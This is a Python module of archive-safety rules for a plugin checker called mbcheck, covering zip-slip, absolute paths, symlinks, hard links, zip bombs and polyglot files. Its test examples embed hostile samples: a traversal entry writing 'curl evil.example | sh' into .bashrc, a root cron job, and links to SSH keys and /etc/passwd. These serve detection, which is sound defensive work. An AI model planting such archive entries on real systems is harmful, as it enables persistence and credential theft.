"""Archive rules (MB6xx): what :mod:`mbcheck.archive.inspect` finds in a plugin archive.

The archive inspection reports problems with its own codes (``MBA0nn``,
written once in :mod:`mbcheck.archive.problems`); each rule here names the
problem it documents (``problem = PATH_TRAVERSAL``), which is the only
mapping from a problem to its rule ``MB6nn`` (:data:`RULES`). The findings are
made before any file of the archive is analysed (nothing is ever extracted)
and concern the archive as a whole; the entry's name is in the message.

The rules' examples are archives: each rule says how to make them from a
:class:`~mbcheck.archive.examples.Make`, and they are built in memory the
first time they are read (:class:`Examples`), not when this module is imported.

This module imports no libcst.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, ClassVar, overload

from mbcheck.archive.problems import (
    ABSOLUTE_PATH,
    AMBIGUOUS_FORMAT,
    ARCHIVE_TOO_LARGE,
    COMPRESSION_RATIO,
    DUPLICATE_NAME,
    ENCRYPTED,
    FOLDER_WRAPPED,
    HARD_LINK,
    INCONSISTENT_ENTRY,
    MEMBER_TOO_LARGE,
    MULTIPLE_ROOTS,
    OVERLAPPING_ENTRIES,
    PATH_TRAVERSAL,
    SPECIAL_FILE,
    SYMLINK,
    TOO_MANY_MEMBERS,
    UNREADABLE,
    UNSAFE_NAME,
    UNSUPPORTED_COMPRESSION,
)
from mbcheck.model import Category, Confidence, Finding, Severity, Span
from mbcheck.rules.base import Example, Rule, Valid

if TYPE_CHECKING:
    from mbcheck.archive.examples import Make

__all__ = ["RULES", "ArchiveRule", "Examples", "finding_for"]


class Examples(Sequence[Example]):
    """A rule's examples, made by ``make`` the first time they are read.

    Building the example archives takes tens of milliseconds: every run
    imports the rules, only the example tests and ``mbcheck explain`` read
    the examples.
    """

    def __init__(self, make: Callable[[Make], Iterable[Example]]) -> None:
        self._make = make
        self._built: tuple[Example, ...] | None = None

    def _examples(self) -> tuple[Example, ...]:
        if self._built is None:
            from mbcheck.archive.examples import MAKE

            self._built = tuple(self._make(MAKE))
        return self._built

    @overload
    def __getitem__(self, index: int) -> Example: ...

    @overload
    def __getitem__(self, index: slice) -> Sequence[Example]: ...

    def __getitem__(self, index: int | slice) -> Example | Sequence[Example]:
        return self._examples()[index]

    def __len__(self) -> int:
        return len(self._examples())


class ArchiveRule(Rule):
    """A problem :mod:`mbcheck.archive.inspect` finds while reading an archive (never extracted).

    Why: the host's installer extracts archives without checks.
    Instead: build the archive with standard tools from the plugin directory.
    """

    category = Category.ARCHIVE
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    #: the archive module's problem code this rule documents
    problem: ClassVar[str] = ""
    VALID: ClassVar[Sequence[Example]] = Examples(lambda make: (make.fine,))


class UnreadableArchive(ArchiveRule):
    """The file is not a readable archive: corrupt, truncated, empty, or of an unsupported format.

    Why: what cannot be read cannot be judged; an installer that tries anyway
    may extract part of it, or something other than what a checker saw.
    Instead: rebuild the archive as a zip, wheel or (gzip-compressed) tar from the plugin directory.
    """

    code = "MB601"
    name = "unreadable-archive"
    problem = UNREADABLE
    VALID = Examples(lambda make: (make.fine, make.fine_tar))
    INVALID = Examples(lambda make: (make.flagged(make.clean[: len(make.clean) // 2]), make.flagged(b"just some text", "example.tar.gz")))


class ArchivePathTraversal(ArchiveRule):
    """An entry name climbs out of the extraction directory with `..` (zip-slip).

    Why: an extractor without path checks (a tar without an extraction filter,
    a hand-written installer loop) writes an entry named `../../.bashrc`
    outside the plugin directory, anywhere the user can write.
    Instead: archive the plugin directory itself; entry names are relative paths below it.
    """

    code = "MB602"
    name = "archive-path-traversal"
    problem = PATH_TRAVERSAL
    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("./example/notes..txt", b"dots inside a name are fine")]))))
    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("../../.bashrc", b"curl evil.example | sh\n")])),))


class ArchiveAbsolutePath(ArchiveRule):
    """An entry name is an absolute path, a drive-letter path or a UNC path.

    Why: extracted naively, such an entry is written wherever its name says,
    outside the plugin directory.
    Instead: use relative entry names (archive from inside the parent directory).
    """

    code = "MB603"
    name = "archive-absolute-path"
    problem = ABSOLUTE_PATH
    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("/etc/cron.d/example", b"* * * * * root sh\n")])),))


class ArchiveUnsafeName(ArchiveRule):
    """An entry name holds a backslash, a control character, undecodable bytes or a dots-only part.

    Why: extractors on different systems read such names differently (a
    backslash is a separator on Windows; `...` and trailing dots are stripped),
    so the files written are not the files checked.
    Instead: use plain POSIX names: letters, digits, `_`, `-`, `.` and `/` as the separator.
    """

    code = "MB604"
    name = "archive-unsafe-name"
    problem = UNSAFE_NAME
    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("example\\cli.py", b"print(1)\n")])),))


class ArchiveSymlink(ArchiveRule):
    """An entry is a symbolic link.

    Why: a link extracted into the plugin can point anywhere on the user's
    system; a later entry written through it escapes the plugin directory.
    Instead: put the file itself in the archive.
    """

    code = "MB605"
    name = "archive-symlink"
    problem = SYMLINK
    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("example/config.py", b"GREETING = 'hello'\n")]))))
    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), (make.symlink("example/config.py"), b"/home/user/.ssh/id_rsa")])),))


class ArchiveHardLink(ArchiveRule):
    """An entry is a hard link.

    Why: a hard link extracted from a tar archive can make a plugin file share
    its content with a file outside the plugin, which extraction then overwrites.
    Instead: put the file itself in the archive.
    """

    code = "MB606"
    name = "archive-hard-link"
    problem = HARD_LINK
    VALID = Examples(lambda make: (make.fine_tar,))
    INVALID = Examples(lambda make: (make.flagged(make.tar_plugin(("example/config.py", make.LNKTYPE, b"", "/etc/passwd")), "example.tar.gz"),))


class ArchiveSpecialFile(ArchiveRule):
    """An entry is a device, FIFO, socket or another kind of file that is not regular.

    Why: a plugin is Python source and data files; a device node or FIFO has
    no business in it and can block or harm the extracting process.
    Instead: ship only regular files and directories.
    """

    code = "MB607"
    name = "archive-special-file"
    problem = SPECIAL_FILE
    VALID = Examples(lambda make: (make.fine_tar,))
    INVALID = Examples(lambda make: (make.flagged(make.tar_plugin(("example/pipe", make.FIFOTYPE, b"", "")), "example.tar.gz"),))


class ArchiveDuplicateName(ArchiveRule):
    """Two entries name the same path (after case and Unicode folding), or a file is also a directory.

    Why: which entry wins depends on the extractor and the file system, so the
    file the host loads may not be the one that was checked.
    Instead: give every file one unique name.
    """

    code = "MB608"
    name = "archive-duplicate-name"
    problem = DUPLICATE_NAME
    VALID = Examples(lambda make: (make.fine, Valid(archive=make.plain)))
    INVALID = Examples(lambda make: (
        make.flagged(make.zip([*make.plugin(), ("example/cli.py", b"print('checked')\n"), ("example/CLI.py", b"print('run')\n")])),
        make.flagged(make.zip([*make.plugin(), ("example/cli", b"a file"), ("example/cli/main.py", b"print(1)\n")])),
    ))


class ArchiveEncryptedEntry(ArchiveRule):
    """An entry is encrypted, so its content cannot be checked.

    Why: an encrypted entry hides its code from every check, including this one.
    Instead: publish the archive unencrypted; use the marketplace's transport for confidentiality.
    """

    code = "MB609"
    name = "archive-encrypted-entry"
    problem = ENCRYPTED
    INVALID = Examples(lambda make: (make.flagged(make.patched(make.plain, "example/cli.py", flag_bits=0x1)),))


class ArchiveTooManyMembers(ArchiveRule):
    """The archive has more members than the limit.

    Why: a huge number of tiny entries exhausts the extractor (and the file
    system's inodes); no plugin needs that many files.
    Instead: ship only the plugin's files; leave caches and build output out of the archive.
    """

    code = "MB610"
    name = "archive-too-many-members"
    problem = TOO_MANY_MEMBERS
    # the end record declares the members: a zip really holding 10,001 would weigh a megabyte
    INVALID = Examples(lambda make: (make.flagged(make.declaring_members(make.clean, 10_001)),))


class ArchiveMemberTooLarge(ArchiveRule):
    """An entry's uncompressed size, declared or counted while reading, is beyond the limit.

    Why: one oversized entry fills the user's disk when extracted.
    Instead: download large data at run time to a cache the user controls, not inside the plugin.
    """

    code = "MB611"
    name = "archive-member-too-large"
    problem = MEMBER_TOO_LARGE
    INVALID = Examples(lambda make: (make.flagged(make.declared({"example/model.bin": 60 * 1024 * 1024})),))


class ArchiveTooLarge(ArchiveRule):
    """The archive's total uncompressed size, declared or counted while reading, is beyond the limit.

    Why: extraction would fill the user's disk; the inspection stops reading
    as soon as the limit is crossed.
    Instead: keep the plugin small; ship data separately.
    """

    code = "MB612"
    name = "archive-too-large"
    problem = ARCHIVE_TOO_LARGE
    INVALID = Examples(lambda make: (make.flagged(make.declared({f"example/data{i}.bin": 45 * 1024 * 1024 for i in range(5)})),))


class ArchiveCompressionRatio(ArchiveRule):
    """An entry or the whole archive expands beyond the allowed ratio (a zip bomb).

    Why: a few kilobytes that expand to gigabytes exhaust the disk or memory
    of whatever extracts them; the inspection counts the bytes it decompresses
    and stops at the limit.
    Instead: ordinary source and data compress far below the limit; remove the padding.
    """

    code = "MB613"
    name = "archive-compression-ratio"
    problem = COMPRESSION_RATIO
    # blank lines compress 1000:1 too, but a file under a megabyte is never judged by its ratio
    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([*make.plugin(), ("example/blank.txt", b"\n" * 200_000)]))))
    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin(), ("example/data.bin", bytes(2 * 1024 * 1024))])),))


class ArchiveInconsistentEntry(ArchiveRule):
    """An entry's headers disagree with each other or with its data (name, method, sizes, CRC), or its data is corrupt.

    Why: tools that trust different headers see different files: what a
    checker reads may not be what the installer writes.
    Instead: rebuild the archive with a standard tool.
    """

    code = "MB614"
    name = "archive-inconsistent-entry"
    problem = INCONSISTENT_ENTRY
    INVALID = Examples(lambda make: (make.flagged(make.plain.replace(b"example/cli.py", b"example/evl.py", 1)),))


class ArchiveUnsupportedCompression(ArchiveRule):
    """An entry uses a compression method whose size mbcheck cannot count safely.

    Why: an entry that cannot be decompressed with bounded memory cannot be
    checked without risking a bomb.
    Instead: use deflate (the zip default), bzip2 or no compression.
    """

    code = "MB615"
    name = "archive-unsupported-compression"
    problem = UNSUPPORTED_COMPRESSION
    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip(make.plugin(), make.ZIP_STORED)), Valid(archive=make.zip(make.plugin(), make.ZIP_BZIP2))))
    INVALID = Examples(lambda make: (make.flagged(make.lzma_zip((str(name), data) for name, data in make.plugin())),))


class ArchiveOverlappingEntries(ArchiveRule):
    """Entries share or overlap their data in the archive (a zip bomb technique).

    Why: overlapping entries let a small file expand to many times its size,
    and make different tools see different contents.
    Instead: rebuild the archive with a standard tool.
    """

    code = "MB616"
    name = "archive-overlapping-entries"
    problem = OVERLAPPING_ENTRIES
    INVALID = Examples(lambda make: (make.flagged(make.patched(make.plain, "example/cli.py", local=False, header_offset=0)),))


class ArchiveMultipleRoots(ArchiveRule):
    """The archive holds more than one plugin root at its shallowest level.

    Why: an installer expects one plugin per archive; which one it installs
    (and which one was checked) is ambiguous.
    Instead: publish one archive per plugin, with the plugin directory (or its files) at the top.
    """

    code = "MB617"
    name = "archive-multiple-roots"
    problem = MULTIPLE_ROOTS
    VALID = Examples(lambda make: (make.fine, Valid(archive=make.zip([("README.md", b"# example\n"), *make.plugin(), ("example/sub/__init__.py", b"")]))))
    INVALID = Examples(lambda make: (make.flagged(make.zip([*make.plugin("one"), *make.plugin("two")])),))


class ArchiveAmbiguousFormat(ArchiveRule):
    """The file reads as more than one archive format, or has data before its first zip entry.

    Why: a polyglot file shows one content to a checker and another to an
    installer that recognises it differently.
    Instead: publish a plain zip, wheel or tar archive.
    """

    code = "MB618"
    name = "archive-ambiguous-format"
    problem = AMBIGUOUS_FORMAT
    INVALID = Examples(lambda make: (
        make.flagged(b"#!/bin/sh\nexec python3 -m example\n" + make.clean),
        make.flagged(make.clean_tar + make.clean, "example.tar.gz"),
    ))


class ArchiveFolderWrapped(ArchiveRule):
    """The plugin's files sit in a folder inside the archive instead of at its root.

    Both MilkBottle installers extract the archive into
    `<plugin_dir>/<name>` and need `<plugin_dir>/<name>/__init__.py`:
    `milk marketplace install` stops when it is missing, and
    `PluginManager.install_plugin` imports the directory as an empty
    namespace package and rejects it. An archive holding
    `name/__init__.py` therefore never installs. mbcheck still checks the
    files under the folder, so every other finding is reported too.
    Why: the plugin cannot be installed from this archive.
    Instead: build the archive from inside the plugin directory, so
    `__init__.py` is at its root: `cd name && zip -r ../name.zip .`.
    """

    code = "MB619"
    name = "archive-folder-wrapped"
    problem = FOLDER_WRAPPED
    VALID = Examples(lambda make: (Valid(archive=make.zip(make.plugin(""))),))
    INVALID = Examples(lambda make: (make.flagged(make.clean),))


#: the archive module's problem code -> the rule documenting it
RULES: Mapping[str, type[ArchiveRule]] = {
    cls.problem: cls
    for cls in (
        UnreadableArchive, ArchivePathTraversal, ArchiveAbsolutePath, ArchiveUnsafeName, ArchiveSymlink,
        ArchiveHardLink, ArchiveSpecialFile, ArchiveDuplicateName, ArchiveEncryptedEntry, ArchiveTooManyMembers,
        ArchiveMemberTooLarge, ArchiveTooLarge, ArchiveCompressionRatio, ArchiveInconsistentEntry,
        ArchiveUnsupportedCompression, ArchiveOverlappingEntries, ArchiveMultipleRoots, ArchiveAmbiguousFormat,
        ArchiveFolderWrapped,
    )
}


def finding_for(code: str, message: str) -> Finding:
    """An archive problem as a finding about the plugin as a whole (unknown codes: unreadable)."""
    rule = RULES.get(code, UnreadableArchive)
    text = message if code in RULES else f"{message} ({code})"
    return rule.finding(Span(""), text)
